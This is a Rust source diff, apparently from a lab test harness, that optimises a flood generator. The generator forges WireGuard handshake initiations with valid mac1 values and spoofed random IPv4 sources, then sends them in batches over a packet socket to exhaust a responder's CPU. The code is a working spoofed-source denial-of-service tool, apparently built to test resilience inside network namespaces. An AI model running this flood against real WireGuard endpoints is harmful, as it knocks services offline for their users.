@@ -2,25 +2,49 @@
 //!
 //! Each has a right `mac1`, which takes nothing but the victim's public key, so it is not refused at first sight; what is
 //! encrypted in it is noise. A responder that did a Diffie-Hellman for each would do nothing else any more.
+//!
+//! Attackers have machines of their own, and this generator runs on the victim's. So it is to cost as little as it can:
+//! the messages are made beforehand and sent again and again, which no responder notices before it has decrypted them; each
+//! time they come from another source, which `mac1` does not cover; and they leave as whole frames, many with one call.
 
+use std::io::IoSlice;
 use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4};
+use std::os::fd::OwnedFd;
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::{Duration, Instant};
 
 use anyhow::{Context, Result, bail};
 use blake2::digest::consts::U16;
 use blake2::digest::{Digest, FixedOutput, KeyInit, Mac};
 use blake2::{Blake2s256, Blake2sMac};
-use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with};
+use rustix::net::{MMsgHdr, SendAncillaryBuffer, SendFlags, sendmmsg};
 
 use super::over;
 use crate::lab::Namespace;
+use crate::lab::packet_socket::{self, Frames};
 
 /// Length of a handshake initiation.
 const INITIATION: usize = 148;
 /// Where `mac1` is in it; `mac2` follows, all zero without a cookie.
 const MAC1: usize = 116;
-const HEADERS: usize = 28;
-const UDP: u8 = 17;
+const ETHERNET: usize = 14;
+const IPV4: usize = 20;
+const UDP: usize = 8;
+const PROTOCOL_UDP: u8 = 17;
+/// Where sums over the IP header, over UDP's pseudo-header and datagram, and the message begin.
+const IP_AT: usize = ETHERNET;
+const ADDRESSES_AT: usize = IP_AT + 12;
+const UDP_AT: usize = IP_AT + IPV4;
+const MESSAGE_AT: usize = UDP_AT + UDP;
+const FRAME: usize = MESSAGE_AT + INITIATION;
+/// Different messages.
+const POOL: usize = 1024;
+/// Frames that leave with one call.
+const BATCH: usize = 64;
+const PAUSE: Duration = Duration::from_millis(1);
+/// Batches between two pauses at most: who was kept from running does not make up for it in one go, which would only
+/// overflow the next queue.
+const BURST: usize = 3;
 /// Forged sources are in this network, which is for benchmarks (RFC 2544).
 const SOURCES: (Ipv4Addr, u32) = (Ipv4Addr::new(198, 18, 0, 0), 0x1_ffff);
 /// The network of the forged sources, for a route that leads answers away.
@@ -29,7 +53,7 @@ pub const SOURCE_PREFIX: &str = "198.18.0.0/15";
 /// What to send.
 #[derive(Clone, Copy, Debug)]
 pub struct Flood {
-    /// The victim, an IPv4 endpoint.
+    /// The victim, an IPv4 endpoint on a link of the sender's.
     pub target: SocketAddr,
     /// The victim's public key.
     pub public_key: [u8; 32],
@@ -39,101 +63,185 @@ pub struct Flood {
     pub duration: Duration,
 }
 
-/// Sends from that namespace; returns how many.
+/// Sends from that namespace, whose kernel has spoken to the target before; returns how many have left.
 pub fn run(from: &Namespace, flood: &Flood) -> Result<u64> {
-    from.run(|| send(flood))?
+    run_until(from, flood, &AtomicBool::new(false))
 }
 
-fn send(flood: &Flood) -> Result<u64> {
+/// The same, and no longer than until `stop` is set.
+pub fn run_until(from: &Namespace, flood: &Flood, stop: &AtomicBool) -> Result<u64> {
     let IpAddr::V4(target) = flood.target.ip() else { bail!("sources are forged over IPv4 only") };
-    let raw = socket_with(AddressFamily::INET, SocketType::RAW, SocketFlags::CLOEXEC, Some(ipproto::RAW));
-    let raw = raw.context("a raw socket")?;
-    let mut forger = Forger::new(&flood.public_key);
+    let neighbour = Neighbour::parse(&from.ip(&format!("neighbour show to {target}"))?)
+        .with_context(|| format!("{target} is no known neighbour"))?;
+    let target = SocketAddrV4::new(target, flood.target.port());
+    let mut forger = Forger::new(&flood.public_key, neighbour.address, target);
+    from.run(|| {
+        let socket = packet_socket::open(&neighbour.device, Frames::Out).context("a packet socket")?;
+        Ok(send(&socket, &mut forger, flood, stop))
+    })?
+}
+
+fn send(socket: &OwnedFd, forger: &mut Forger, flood: &Flood, stop: &AtomicBool) -> u64 {
     let start = Instant::now();
-    let mut sent = 0;
-    while !over(start + flood.duration) {
-        let due = (start.elapsed().as_secs_f64() * f64::from(flood.rate)) as u64;
-        for _ in sent..due {
-            let packet = forger.packet(SocketAddrV4::new(target, flood.target.port()));
-            // A full queue loses one, as it would on any way here.
-            sendto(&raw, &packet, SendFlags::empty(), &SocketAddrV4::new(target, 0)).ok();
+    let (mut sent, mut tried) = (0, 0);
+    while !over(start + flood.duration) && !stop.load(Ordering::Relaxed) {
+        let due = (start.elapsed().as_secs_f64() * f64::from(flood.rate)) as usize;
+        for _ in 0..BURST {
+            let frames = forger.next(BATCH.min(due - tried));
+            sent += send_batch(socket, frames);
+            tried += frames.len();
         }
-        sent = sent.max(due);
-        std::thread::sleep(Duration::from_micros(500));
+        std::thread::sleep(PAUSE);
     }
-    Ok(sent)
+    sent as u64
 }
 
-struct Forger {
-    mac1: Blake2sMac<U16>,
-    state: u64,
+/// Returns how many have left. A full queue loses some, as it would on any way here.
+fn send_batch(socket: &OwnedFd, frames: &[Forged]) -> usize {
+    let slices: Vec<_> = frames.iter().map(|forged| [IoSlice::new(&forged.frame)]).collect();
+    let mut controls: Vec<_> = frames.iter().map(|_| SendAncillaryBuffer::default()).collect();
+    let pairs = slices.iter().zip(&mut controls);
+    let mut messages: Vec<_> = pairs.map(|(slice, control)| MMsgHdr::new(slice, control)).collect();
+    sendmmsg(socket, &mut messages, SendFlags::empty()).unwrap_or(0)
 }
 
-impl Forger {
-    fn new(public_key: &[u8; 32]) -> Self {
-        let key = Blake2s256::new().chain_update(b"mac1----").chain_update(public_key).finalize();
-        Self { mac1: KeyInit::new_from_slice(&key).expect("32 bytes are a key"), state: 0x9e37_79b9_7f4a_7c15 }
-    }
+/// Who answers on a link for an address.
+#[derive(Debug, PartialEq, Eq)]
+struct Neighbour {
+    device: String,
+    address: [u8; 6],
+}
 
-    /// xorshift64*, Vigna 2016.
-    fn random(&mut self) -> u64 {
-        self.state ^= self.state >> 12;
-        self.state ^= self.state << 25;
-        self.state ^= self.state >> 27;
-        self.state.wrapping_mul(0x2545_f491_4f6c_dd1d)
-    }
-
-    /// An initiation with a right `mac1`.
-    fn initiation(&mut self) -> [u8; INITIATION] {
-        let mut message = [0; INITIATION];
-        message[0] = 1;
-        for chunk in message[4..MAC1].chunks_mut(8) {
-            let length = chunk.len();
-            chunk.copy_from_slice(&self.random().to_le_bytes()[..length]);
-        }
-        let mac = Mac::chain_update(self.mac1.clone(), &message[..MAC1]).finalize_fixed();
-        message[MAC1..MAC1 + 16].copy_from_slice(&mac);
-        message
-    }
-
-    /// The same from somewhere, with an IP header whose checksum the kernel fills in.
-    fn packet(&mut self, target: SocketAddrV4) -> [u8; HEADERS + INITIATION] {
-        let (network, hosts) = SOURCES;
-        let source = Ipv4Addr::from_bits(network.to_bits() | self.random() as u32 & hosts);
-        let port = 1024 + (self.random() % 60_000) as u16;
-        let mut packet = [0; HEADERS + INITIATION];
-        (packet[0], packet[8], packet[9]) = (0x45, 64, UDP);
-        packet[2..4].copy_from_slice(&((HEADERS + INITIATION) as u16).to_be_bytes());
-        packet[12..16].copy_from_slice(&source.octets());
-        packet[16..20].copy_from_slice(&target.ip().octets());
-        packet[20..22].copy_from_slice(&port.to_be_bytes());
-        packet[22..24].copy_from_slice(&target.port().to_be_bytes());
-        packet[24..26].copy_from_slice(&((8 + INITIATION) as u16).to_be_bytes());
-        packet[HEADERS..].copy_from_slice(&self.initiation());
-        let checksum = udp_checksum(&packet);
-        packet[26..28].copy_from_slice(&checksum.to_be_bytes());
-        packet
+impl Neighbour {
+    /// Reads `10.9.0.2 dev under0 lladdr 02:00:00:00:00:01 REACHABLE`.
+    fn parse(line: &str) -> Option<Self> {
+        let behind = |key| line.split_whitespace().skip_while(|word| *word != key).nth(1);
+        let bytes: Option<Vec<u8>> =
+            behind("lladdr")?.split(':').map(|byte| u8::from_str_radix(byte, 16).ok()).collect();
+        Some(Self { device: behind("dev")?.to_owned(), address: bytes?.try_into().ok()? })
     }
 }
 
-/// RFC 768, for an even number of bytes behind an IPv4 header of 20.
-fn udp_checksum(packet: &[u8]) -> u16 {
-    let words = packet[12..].as_chunks::<2>().0.iter().map(|word| u32::from(u16::from_be_bytes(*word)));
-    let mut sum: u32 = words.sum::<u32>() + u32::from(UDP) + (packet.len() - 20) as u32;
+/// A frame without its source, and what its checksums are without it.
+struct Forged {
+    frame: [u8; FRAME],
+    ip_sum: u32,
+    udp_sum: u32,
+}
+
+impl Forged {
+    fn new(message: &[u8; INITIATION], link_address: [u8; 6], target: SocketAddrV4) -> Self {
+        let mut frame = [0; FRAME];
+        frame[..6].copy_from_slice(&link_address);
+        // A sender of its own, locally administered.
+        (frame[6], frame[11], frame[12]) = (0x02, 0x01, 0x08);
+        (frame[IP_AT], frame[IP_AT + 8], frame[IP_AT + 9]) = (0x45, 64, PROTOCOL_UDP);
+        frame[IP_AT + 2..][..2].copy_from_slice(&((FRAME - IP_AT) as u16).to_be_bytes());
+        frame[ADDRESSES_AT + 4..][..4].copy_from_slice(&target.ip().octets());
+        frame[UDP_AT + 2..][..2].copy_from_slice(&target.port().to_be_bytes());
+        frame[UDP_AT + 4..][..2].copy_from_slice(&((FRAME - UDP_AT) as u16).to_be_bytes());
+        frame[MESSAGE_AT..].copy_from_slice(message);
+        let ip_sum = sum(&frame[IP_AT..UDP_AT]);
+        let udp_sum = sum(&frame[ADDRESSES_AT..]) + u32::from(PROTOCOL_UDP) + (FRAME - UDP_AT) as u32;
+        Self { frame, ip_sum, udp_sum }
+    }
+
+    fn set_source(&mut self, source: SocketAddrV4) {
+        let (address, port) = (source.ip().octets(), source.port().to_be_bytes());
+        self.frame[ADDRESSES_AT..][..4].copy_from_slice(&address);
+        self.frame[UDP_AT..][..2].copy_from_slice(&port);
+        let ip = checksum(self.ip_sum + sum(&address));
+        let udp = checksum(self.udp_sum + sum(&address) + sum(&port));
+        self.frame[IP_AT + 10..][..2].copy_from_slice(&ip.to_be_bytes());
+        // RFC 768: zero would mean that there is none.
+        self.frame[UDP_AT + 6..][..2].copy_from_slice(&(if udp == 0 { 0xffff } else { udp }).to_be_bytes());
+    }
+}
+
+/// The sum of an even number of bytes as 16-bit words (RFC 1071), not folded.
+fn sum(bytes: &[u8]) -> u32 {
+    bytes.as_chunks::<2>().0.iter().map(|word| u32::from(u16::from_be_bytes(*word))).sum()
+}
+
+fn checksum(mut sum: u32) -> u16 {
     while sum > 0xffff {
         sum = (sum & 0xffff) + (sum >> 16);
     }
-    if sum == 0xffff { 0xffff } else { !(sum as u16) }
+    !(sum as u16)
+}
+
+struct Forger {
+    random: Random,
+    pool: Vec<Forged>,
+    next: usize,
+}
+
+impl Forger {
+    fn new(public_key: &[u8; 32], link_address: [u8; 6], target: SocketAddrV4) -> Self {
+        let key = Blake2s256::new().chain_update(b"mac1----").chain_update(public_key).finalize();
+        let mac1: Blake2sMac<U16> = KeyInit::new_from_slice(&key).expect("32 bytes are a key");
+        let mut random = Random(0x9e37_79b9_7f4a_7c15);
+        let pool = (0..POOL).map(|_| Forged::new(&initiation(&mac1, &mut random), link_address, target)).collect();
+        Self { random, pool, next: 0 }
+    }
+
+    /// The next frames of the pool, at most that many, from somewhere.
+    fn next(&mut self, count: usize) -> &[Forged] {
+        let start = self.next;
+        let end = POOL.min(start + count);
+        self.next = end % POOL;
+        for forged in &mut self.pool[start..end] {
+            forged.set_source(self.random.source());
+        }
+        &self.pool[start..end]
+    }
+}
+
+/// An initiation with a right `mac1`.
+fn initiation(mac1: &Blake2sMac<U16>, random: &mut Random) -> [u8; INITIATION] {
+    let mut message = [0; INITIATION];
+    message[0] = 1;
+    for chunk in message[4..MAC1].chunks_mut(8) {
+        let length = chunk.len();
+        chunk.copy_from_slice(&random.next().to_le_bytes()[..length]);
+    }
+    let mac = Mac::chain_update(mac1.clone(), &message[..MAC1]).finalize_fixed();
+    message[MAC1..MAC1 + 16].copy_from_slice(&mac);
+    message
+}
+
+/// xorshift64*, Vigna 2016.
+struct Random(u64);
+
+impl Random {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 >> 12;
+        self.0 ^= self.0 << 25;
+        self.0 ^= self.0 >> 27;
+        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
+    }
+
+    fn source(&mut self) -> SocketAddrV4 {
+        let ((network, hosts), random) = (SOURCES, self.next());
+        let port = 1024 + ((random >> 32) % 60_000) as u16;
+        SocketAddrV4::new(Ipv4Addr::from_bits(network.to_bits() | random as u32 & hosts), port)
+    }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    const TARGET: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(10, 9, 0, 2), 51820);
+
+    fn forger(key: u8) -> Forger {
+        Forger::new(&[key; 32], [2; 6], TARGET)
+    }
+
     #[test]
     fn mac1_covers_what_stands_before_it_and_depends_on_the_key() {
-        let [mut one, mut same, mut other] = [[7; 32], [7; 32], [8; 32]].map(|key| Forger::new(&key));
-        let (one, same, other) = (one.initiation(), same.initiation(), other.initiation());
+        let message = |key| <[u8; INITIATION]>::try_from(&forger(key).next(1)[0].frame[MESSAGE_AT..]).unwrap();
+        let [one, same, other] = [7, 7, 8].map(message);
         assert_eq!(one, same);
         assert_eq!(one[..MAC1], other[..MAC1]);
         assert_ne!(one[MAC1..MAC1 + 16], other[MAC1..MAC1 + 16]);
@@ -141,14 +249,26 @@ mod tests {
     }
 
     #[test]
-    fn a_forged_packet_has_a_right_checksum_and_a_source_of_its_own() {
-        let mut forger = Forger::new(&[7; 32]);
-        let target = SocketAddrV4::new(Ipv4Addr::new(10, 9, 0, 2), 51820);
-        let [one, two] = [forger.packet(target), forger.packet(target)];
-        assert_ne!(one[12..16], two[12..16]);
-        for packet in [one, two] {
-            // With the right checksum in its field the sum of all is zero, so the checksum over it is all ones.
-            assert_eq!(udp_checksum(&packet), 0xffff);
+    fn a_forged_frame_has_right_checksums_and_a_new_source_whenever_it_is_sent() {
+        let mut forger = forger(7);
+        let mut sources = std::collections::HashSet::new();
+        for _ in 0..2 * POOL / BATCH {
+            for Forged { frame, .. } in forger.next(BATCH) {
+                // With the right checksum in its field the sum is all ones, so the checksum over it is zero.
+                assert_eq!(checksum(sum(&frame[IP_AT..UDP_AT])), 0);
+                let pseudo_header = u32::from(PROTOCOL_UDP) + (FRAME - UDP_AT) as u32;
+                assert_eq!(checksum(sum(&frame[ADDRESSES_AT..]) + pseudo_header), 0);
+                sources.insert((frame[ADDRESSES_AT..][..4].to_vec(), frame[UDP_AT..][..2].to_vec()));
+            }
         }
+        assert_eq!(sources.len(), 2 * POOL);
+    }
+
+    #[test]
+    fn a_neighbour_is_read_as_ip_prints_it() {
+        let known = Neighbour::parse("10.9.0.2 dev under0 lladdr 02:aa:00:00:00:01 REACHABLE\n");
+        assert_eq!(known, Some(Neighbour { device: "under0".to_owned(), address: [2, 0xaa, 0, 0, 0, 1] }));
+        assert_eq!(Neighbour::parse("10.9.0.2 dev under0 FAILED"), None);
+        assert_eq!(Neighbour::parse(""), None);
     }
 }
